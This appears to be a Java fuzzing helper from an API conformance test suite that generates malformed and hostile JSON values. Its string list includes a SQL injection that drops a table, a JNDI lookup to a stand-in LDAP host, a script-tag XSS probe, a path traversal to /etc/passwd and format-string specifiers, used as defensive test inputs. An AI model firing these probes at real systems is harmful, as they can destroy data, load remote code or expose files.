package org.waystation.conformance.fuzz;

import java.util.List;
import java.util.SplittableRandom;
import org.waystation.conformance.Json;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.ObjectNode;

/** Values that break what is careless: types, sizes, characters. Half of them fit the schema, so that they get further. */
final class HostileValues {

    private static final List<String> TEXTS = List.of(
            "",
            " ",
            "'; drop table record; --",
            "$${jndi:ldap://x.example/a}",
            "<script>alert(1)</script>",
            "\u0000",
            "\uD800",
            "\u202Egnp.exe",
            "\uFFFF",
            "1e9999",
            "-0",
            "2026-02-30",
            "9999-12-31T23:59:60Z",
            "+1000000000-01-01T00:00:00Z",
            "../../../../etc/passwd",
            "%s%n%x",
            "{\"a\":1}",
            "null",
            "a,b,,c",
            "00000000-0000-0000-0000-000000000000",
            "0191D5A0-4C00-7A01-8A4F-7D5B1C2E3F40",
            "1-1-1-1-1",
            "zalgo\u0336\u0337\u0338",
            "\uD83D\uDE00");

    private final SplittableRandom random;
    private final List<String> ids;

    /**
     * @param ids of records that exist
     */
    HostileValues(SplittableRandom random, List<String> ids) {
        this.random = random;
        this.ids = ids;
    }

    String id() {
        return ids.get(random.nextInt(ids.size()));
    }

    String text() {
        return switch (random.nextInt(12)) {
            case 0 -> "x".repeat(1 + random.nextInt(300_000));
            case 1, 2, 3 -> id();
            case 4 -> Long.toString(random.nextLong());
            default -> TEXTS.get(random.nextInt(TEXTS.size()));
        };
    }

    /** A value for a field: one that its schema allows, as far as that is easily told, or anything at all. */
    JsonNode value(JsonNode schema) {
        JsonNode words = schema.has("enum") ? schema.path("enum") : schema.path("x-extensible-enum");
        if (random.nextBoolean() || schema.isMissingNode()) {
            return value(0);
        }
        if (words.size() > 0) {
            return words.get(random.nextInt(words.size()));
        }
        return switch (schema.path("type").asString("")) {
            case "integer" -> Json.of(random.nextInt(2_000));
            case "boolean" -> Json.of(random.nextBoolean());
            case "array" -> Json.of(List.of());
            case "object" -> Json.object();
            case "string" -> Json.of("A text of some length");
            default -> Json.of(random.nextBoolean() ? id() : "2026-11-22T10:00:00Z");
        };
    }

    private JsonNode value(int depth) {
        return switch (random.nextInt(depth > 3 ? 7 : 9)) {
            case 0 -> Json.of(null);
            case 1 -> Json.of(random.nextBoolean());
            case 2 -> Json.of(random.nextLong());
            case 3 -> Json.of(random.nextDouble() * 1e300);
            case 4, 5, 6 -> Json.of(text());
            case 7 -> {
                ArrayNode list = Json.object().putArray("list");
                for (int i = random.nextInt(5); i > 0; i--) {
                    list.add(value(depth + 1));
                }
                yield list;
            }
            default -> {
                ObjectNode object = Json.object();
                for (int i = random.nextInt(5); i > 0; i--) {
                    object.set(random.nextInt(9) == 0 ? "k".repeat(70_000) : "k" + i, value(depth + 1));
                }
                yield object;
            }
        };
    }
}
